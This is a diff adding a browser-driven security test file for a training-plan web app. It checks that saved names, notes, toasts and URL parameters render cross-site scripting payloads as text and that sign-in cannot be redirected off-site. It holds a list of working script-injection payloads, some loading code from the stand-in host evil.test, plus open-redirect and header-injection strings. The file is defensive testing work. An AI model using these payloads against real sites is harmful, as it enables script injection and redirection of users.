@@ -1,0 +1,191 @@
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { register, savePlan } from '../harness/account.js'
+import { launchBrowser } from '../harness/browser.js'
+import { logIn } from '../harness/journey.js'
+import { openPage } from '../harness/page.js'
+import { type Server, startServer } from '../harness/server.js'
+
+/** What has run as a script somewhere: markup, attributes, addresses, templates, encodings. */
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<script src=//evil.test/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src/onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>">',
+  '<iframe src=javascript:alert(1)>',
+  '<object data=javascript:alert(1)>',
+  '<embed src=javascript:alert(1)>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<input autofocus onfocus=alert(1)>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<base href=//evil.test/>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<link rel=stylesheet href=//evil.test/x.css>',
+  '<style>@import"//evil.test/x.css";</style>',
+  '<a href="javascript:alert(1)">click</a>',
+  '"><img src=x onerror=alert(1)>',
+  "'-alert(1)-'",
+  '`${alert(1)}`',
+  '{{constructor.constructor("alert(1)")()}}',
+  '\u003cimg src=x onerror=alert(1)\u003e',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  'javascript:alert(1)//',
+  '\u202e<img src=x onerror=alert(1)>',
+]
+const PAGES = ['/', '/my-plans', '/settings', '/garmin', '/privacy-policy', '/no-such-page', '/?new']
+
+let server: Server
+let browser: Browser
+
+beforeAll(async () => {
+  server = await startServer()
+  browser = await launchBrowser()
+})
+afterAll(async () => {
+  await browser?.close()
+  await server?.stop()
+})
+
+/** Counts what a script that got through would do, and what the content policy had to stop. */
+async function watch(page: Page) {
+  const seen: string[] = []
+  page.on('dialog', (dialog) => {
+    seen.push(`dialog: ${dialog.message()}`)
+    dialog.dismiss().catch(() => undefined)
+  })
+  page.on('request', (request) => {
+    if (!request.url().startsWith(server.origin) && !request.url().startsWith('data:')) seen.push(request.url())
+  })
+  return seen
+}
+
+/** Elements that text must never become. */
+const intruders = (page: Page) =>
+  page.evaluate(() => {
+    const marks = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onbegin', 'srcdoc']
+    const withMarks = marks.flatMap((name) => [...document.querySelectorAll(`[${name}]`)])
+    const foreign = document.querySelectorAll(
+      'iframe, object, embed, base, [href^="javascript:"], [src^="javascript:"]',
+    )
+    return [...withMarks, ...foreign].map((element) => element.outerHTML.slice(0, 120))
+  })
+
+const textOf = (page: Page, text: string) => page.getByText(text, { exact: false }).first()
+
+const longest = PAYLOADS.join(' ').slice(0, 2_000)
+
+test('S20 S21 thirty payloads in names, notes and results are text on every screen', async () => {
+  const { page, troubles, close } = await openPage(browser, { origin: server.origin })
+  const seen = await watch(page)
+  await register(page, 'a+<b>@example.org'.replace(/[<>]/g, ''))
+  const ids: number[] = []
+  for (const payload of PAYLOADS) ids.push(await savePlan(page, { name: payload, type: 'Sprint', weeks: 3 }))
+  const id = ids.at(-1) ?? 0
+  await page.request.patch('/api/user/current-plan', { data: { planId: id } })
+  const workouts = (await (await page.request.get(`/api/training-plans/${id}/workouts`)).json()) as {
+    id: number
+    exercises: { id: string; type: string; intensity: string }[]
+  }[]
+  for (const [index, { id: workoutId, exercises }] of workouts.entries()) {
+    const payload = PAYLOADS[index % PAYLOADS.length] ?? ''
+    const actualExercises = exercises.map(({ id: exerciseId, type, intensity }) => ({
+      ...{ id: exerciseId, type, intensity, duration: 30 },
+      ...{ name: payload, distance: payload, actualPace: payload, notes: longest },
+    }))
+    const data = {
+      completed: true,
+      actualExercises,
+      actualDuration: 30,
+      notes: `${payload} ${longest}`.slice(0, 2_000),
+    }
+    expect((await page.request.patch(`/api/workouts/${workoutId}/complete`, { data })).status()).toBe(200)
+  }
+
+  for (const path of PAGES) {
+    await page.goto(path)
+    await page.locator('h1').first().waitFor()
+    await page.waitForLoadState('networkidle')
+    expect(await intruders(page), path).toEqual([])
+  }
+  await page.goto('/my-plans')
+  for (const payload of PAYLOADS) await textOf(page, payload.replace(/\s+/g, ' ')).waitFor()
+
+  await page.goto('/')
+  await page.getByRole('button', { name: 'Weekly View' }).click()
+  await page.getByRole('button', { name: 'Next week' }).click()
+  await page
+    .getByRole('button', { name: /^Actions for .*workout$/ })
+    .first()
+    .click()
+  await page.getByRole('menuitem', { name: 'Edit result' }).click()
+  const dialog = page.getByRole('dialog')
+  expect(await dialog.getByLabel('Notes', { exact: true }).last().inputValue()).toContain(
+    '<img src=x onerror=alert(1)>',
+  )
+  await dialog.getByRole('button', { name: 'Save' }).click()
+  await dialog.waitFor({ state: 'detached' })
+  expect(await intruders(page)).toEqual([])
+  expect(seen).toEqual([])
+  expect(troubles).toEqual([])
+  await close()
+})
+
+test('S20 toasts, dialogs and what the address says are text, too', async () => {
+  const { page, troubles, close } = await openPage(browser, { origin: server.origin })
+  const seen = await watch(page)
+  await register(page, 'toasts@example.org')
+  const name = '<img src=x onerror=alert(1)>'
+  await savePlan(page, { name, type: 'Sprint', weeks: 3 })
+  await page.goto('/my-plans')
+  for (const action of ['Duplicate', 'Rename', 'Delete']) {
+    await page
+      .getByRole('button', { name: /^Actions for / })
+      .first()
+      .click()
+    await page.getByRole('menuitem', { name: action }).click()
+    if (action === 'Duplicate') await page.getByText('Plan duplicated').waitFor()
+    else await page.getByRole('dialog').waitFor()
+    expect(await intruders(page), action).toEqual([])
+    if (action !== 'Duplicate') await page.getByRole('button', { name: 'Cancel' }).click()
+  }
+  for (let from = 0; from < PAYLOADS.length; from += 8) {
+    const query = encodeURIComponent(PAYLOADS.slice(from, from + 8).join(' '))
+    for (const path of [`/garmin?error=${query}#${query}`, `/garmin?success=${query}`, `/?new=${query}`]) {
+      await page.goto(path)
+      await page.locator('h1').first().waitFor()
+      expect(await intruders(page), path).toEqual([])
+    }
+  }
+  expect(seen).toEqual([])
+  expect(troubles).toEqual([])
+  await close()
+})
+
+test('S23 signing in leads to no other site, whatever the address asks for', async () => {
+  const { page, troubles, close } = await openPage(browser, { origin: server.origin })
+  await register(page, 'stay@example.org')
+  for (const next of [
+    '//evil.test',
+    '/\\evil.test',
+    'https:evil.test',
+    '%0d%0aLocation:%20//evil.test',
+    'javascript:alert(1)',
+  ]) {
+    await page.context().clearCookies()
+    await page.goto(`/auth?next=${encodeURIComponent(next)}&redirect=${next}&returnTo=${next}`)
+    await logIn(page, 'stay@example.org')
+    await page.getByRole('heading', { name: 'Training Plan Setup' }).waitFor()
+    expect(new URL(page.url()).origin).toBe(server.origin)
+  }
+  expect(troubles).toEqual([])
+  await close()
+})
